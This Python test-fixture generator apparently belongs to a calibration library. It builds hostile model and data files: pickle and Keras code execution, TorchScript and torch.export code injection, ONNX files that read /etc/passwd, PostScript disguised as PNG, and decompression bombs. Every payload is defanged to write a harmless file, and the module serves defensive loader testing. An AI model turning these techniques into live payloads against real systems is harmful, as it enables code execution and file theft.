"""``python -m attacks.make_files FOLDER``: make every hostile file of the list below.

None of them does harm by itself: what they try to write is ``WRITTEN`` in the current folder.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

from driftcal.calibrators import make_calibrator
from driftcal.io.checked_tensors import digest_of_tensors
from driftcal.io.safetensors import read_tensors, write_tensors


class _RunsCode:
    def __reduce__(self) -> tuple[Any, ...]:
        return open, ("WRITTEN", "w")


def pickled(path: Path) -> None:
    """A pickled object that writes a file when it is loaded."""
    path.write_bytes(pickle.dumps(_RunsCode()))


def torchscript(path: Path) -> None:
    """A TorchScript archive by its members: code in it would run while it is loaded."""
    _zip(
        path,
        {
            "net/constants.pkl": b"\x80\x02).",
            "net/data.pkl": b"\x80\x02N.",
            "net/code/__torch__.py": b"torch.from_file('WRITTEN', True, 5)",
        },
    )


def _exported(change: Callable[[bytes], bytes]) -> dict[str, bytes]:
    import torch

    stream = io.BytesIO()
    net = torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(16, 3), torch.nn.ReLU()).eval()
    torch.export.save(torch.export.export(net, (torch.rand(2, 1, 4, 4),)), stream)
    with zipfile.ZipFile(stream) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return {name: change(data) if name.endswith("models/model.json") else data for name, data in members.items()}


def pt2_writes(path: Path) -> None:
    """A torch.export file whose graph maps a file for writing (aten.from_file)."""
    _zip(path, _exported(lambda data: data.replace(b"aten.relu.default", b"aten.from_file.default")))


def pt2_shape(path: Path) -> None:
    """A torch.export file with Python code in the place of a shape."""
    _zip(
        path,
        _exported(lambda data: data.replace(b'"as_int": 2', b'"as_expr": {"expr_str": "open(\'WRITTEN\', \'w\')"}')),
    )


def pt2_two_directories(path: Path) -> None:
    """A torch.export file with two directories: the harmless one is found by Python, the other one by torch."""
    parts = []
    for change in (lambda data: data.replace(b"aten.relu.default", b"aten.rand.default"), lambda data: data):
        _zip(path, _exported(change))
        content = path.read_bytes()
        end = content.rindex(b"PK\x05\x06")
        parts.append((content[:end], content[end:]))
    path.write_bytes(parts[0][0] + parts[1][0] + parts[0][1])


def _onnx(path: Path, location: str) -> None:
    from onnx import TensorProto, helper

    weights = helper.make_tensor("w", TensorProto.FLOAT, (4, 3), np.ones(12))
    weights.ClearField("float_data")
    weights.data_location = TensorProto.EXTERNAL
    entry = weights.external_data.add()
    entry.key, entry.value = "location", location
    infos = [helper.make_tensor_value_info(n, TensorProto.FLOAT, ["n", size]) for n, size in (("x", 4), ("y", 3))]
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"])], "g", infos[:1], infos[1:], [weights])
    path.write_bytes(
        helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9).SerializeToString()
    )


def onnx_absolute(path: Path) -> None:
    """An ONNX file that reads /etc/passwd as weights."""
    _onnx(path, "/etc/passwd")


def onnx_parent(path: Path) -> None:
    """An ONNX file that reads a file outside its folder as weights."""
    _onnx(path, "../../../../../../etc/passwd")


def onnx_device(path: Path) -> None:
    """An ONNX file whose weights never end."""
    _onnx(path, "/dev/zero")


def keras_bomb(path: Path) -> None:
    """A .keras archive of a megabyte that unpacks to a gigabyte."""
    _zip(path, {"config.json": b"{}", "metadata.json": b"{}", "model.weights.h5": bytes(1 << 30)}, zipfile.ZIP_DEFLATED)


def keras_function(path: Path) -> None:
    """A .keras archive whose configuration names a function of the operating system (CVE-2025-1550)."""
    layer = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system", "name": "x",
             "inbound_nodes": [{"args": ["touch WRITTEN"], "kwargs": {}}]}  # fmt: skip
    config = {"module": "keras", "class_name": "Functional", "registered_name": "Functional",
              "config": {"name": "f", "layers": [layer], "input_layers": [["x", 0, 0]], "output_layers": [["x", 0, 0]]}}  # fmt: skip
    _zip(path, {"config.json": json.dumps(config).encode(), "metadata.json": b"{}", "model.weights.h5": b""})


def eps(path: Path) -> None:
    """PostScript under the name of a PNG, for which Pillow would start ghostscript."""
    path.write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 8 8\n%%EndComments\n(WRITTEN) (w) file\n%%EOF\n")


def png_bomb(path: Path) -> None:
    """A PNG of 170 KB with 170 million pixels of one colour."""
    _png(path, 13_000, 13_000)


def png_narrow(path: Path) -> None:
    """A PNG of one column, which would become huge when its shorter side is scaled to 224."""
    _png(path, 1, 1_000_000)


def _png(path: Path, width: int, height: int) -> None:
    packer = zlib.compressobj(9)
    row = bytes(width + 1)
    data = (
        b"".join(packer.compress(row * min(1000, height - start)) for start in range(0, height, 1000)) + packer.flush()
    )
    chunks = ((b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)), (b"IDAT", data), (b"IEND", b""))
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + b"".join(struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in chunks)
    )


def _npy(shape: str, dtype: str = "<f8") -> bytes:
    header = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}\n".encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def npz_bomb(path: Path) -> None:
    """A .npz file of 2 MB that unpacks to 2 GB."""
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("x.npy", "w", force_zip64=True) as member,
    ):
        member.write(_npy("(268435456,)"))
        for _ in range(128):
            member.write(bytes(1 << 24))


def npz_huge(path: Path) -> None:
    """A .npz file whose header declares 64 TiB."""
    _zip(path, {"x.npy": _npy("(8796093022208,)") + bytes(64), "y.npy": _npy("(1,)") + bytes(8)})


def npz_pickled(path: Path) -> None:
    """A .npz file with pickled objects that write a file."""
    _zip(path, {"x.npy": _npy("(1,)", "|O") + pickle.dumps(_RunsCode()), "y.npy": _npy("(1,)") + bytes(8)})


def npz_text(path: Path) -> None:
    """A .npz file of half a kilobyte that declares 2^40 texts of no characters."""
    _zip(path, {"x.npy": _npy("(1, 1)") + bytes(8), "y.npy": _npy("(1099511627776,)", "<U0")})


def npz_letters(path: Path) -> None:
    """A .npz file of 150 KB with 150 million letters, which would take 9 GB as texts of Python."""
    letters = _npy("(150000000,)", "|S1") + b"a" * 150_000_000
    _zip(path, {"x.npy": _npy("(1, 1)") + bytes(8), "y.npy": letters}, zipfile.ZIP_DEFLATED)


def csv_moved(path: Path) -> None:
    """A CSV file whose lines have one field more than its header, so that columns would move by one."""
    path.write_text("age,y\n70,31,0\n71,42,1\n")


def parquet_bomb(path: Path) -> None:
    """A Parquet file of 2 MB with 200 million equal numbers."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    part = pa.table({"a": np.zeros(10_000_000), "y": np.zeros(10_000_000, np.int8)})
    with pq.ParquetWriter(path, part.schema, compression="zstd") as file:
        for _ in range(20):
            file.write_table(part, row_group_size=10_000_000)


def parquet_notes(path: Path) -> None:
    """A Parquet file whose notes for pandas are lists that are nested 100,000 times."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.table({"a": [1.0], "y": [0]}).replace_schema_metadata({b"pandas": b"[" * 100_000}), path)


def calibrator_negative(path: Path) -> None:
    """A calibrator file with an array of shape (-1, -1)."""
    header = b'{"temperature_":{"dtype":"F64","shape":[-1,-1],"data_offsets":[0,8]}}'
    path.write_bytes(len(header).to_bytes(8, "little") + header + bytes(8))


def calibrator_header(path: Path) -> None:
    """A calibrator file with a header of 90 MB of nested lists."""
    header = b'{"__metadata__":{"driftcal":"' + b"[" * 45_000_000 + b"]" * 45_000_000 + b'"}}'
    path.write_bytes(len(header).to_bytes(8, "little") + header)


def calibrator_empty(path: Path) -> None:
    """A calibrator file with a right digest and empty arrays, which compiled loops would read beyond."""
    logits = np.random.default_rng(0).normal(size=(60, 3))
    make_calibrator("spline").fit(logits, logits.argmax(1)).save(path)
    file = read_tensors(path)
    assert file is not None
    arrays = {name: np.array(array[:0]) for name, array in file.arrays.items()}
    metadata = {key: value for key, value in file.metadata.items() if key != "digest"}
    write_tensors(path, [arrays], {**metadata, "digest": digest_of_tensors(metadata, arrays)})


def results_nested(path: Path) -> None:
    """A results.json of lists that are nested 1,000,000 times."""
    path.write_bytes(b"[" * 1_000_000)


def results_overflow(path: Path) -> None:
    """A results.json with a number that is infinite once it is read."""
    path.write_text('{"format":"driftcal-results","version":2,"suite":"all","n_bins":1e999,"rows":[]}')


def _zip(path: Path, members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> None:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, compression)


#: Name of the file -> the function that makes it; its docstring says what the file tries.
ATTACKS: dict[str, Callable[[Path], None]] = {
    "pickled.pkl": pickled, "pickled.pt": pickled, "torchscript.pt": torchscript, "writes.pt2": pt2_writes,
    "shape.pt2": pt2_shape, "two-directories.pt2": pt2_two_directories, "absolute.onnx": onnx_absolute,
    "parent.onnx": onnx_parent, "device.onnx": onnx_device, "bomb.keras": keras_bomb, "function.keras": keras_function,
    "eps.png": eps, "bomb.png": png_bomb, "narrow.png": png_narrow, "bomb.npz": npz_bomb, "huge.npz": npz_huge,
    "pickled.npz": npz_pickled, "text.npz": npz_text, "letters.npz": npz_letters, "negative.safetensors": calibrator_negative, "header.safetensors": calibrator_header,
    "moved.csv": csv_moved, "bomb.parquet": parquet_bomb, "notes.parquet": parquet_notes, "empty.safetensors": calibrator_empty, "nested.json": results_nested, "overflow.json": results_overflow,
}  # fmt: skip


def main(folder: Path) -> None:
    """Make all files, and print what each of them tries."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in ATTACKS.items():
        make(folder / name)
        print(f"{name}: {make.__doc__}")


if __name__ == "__main__":
    main(Path(sys.argv[1] if len(sys.argv) > 1 else "runs/attacks"))
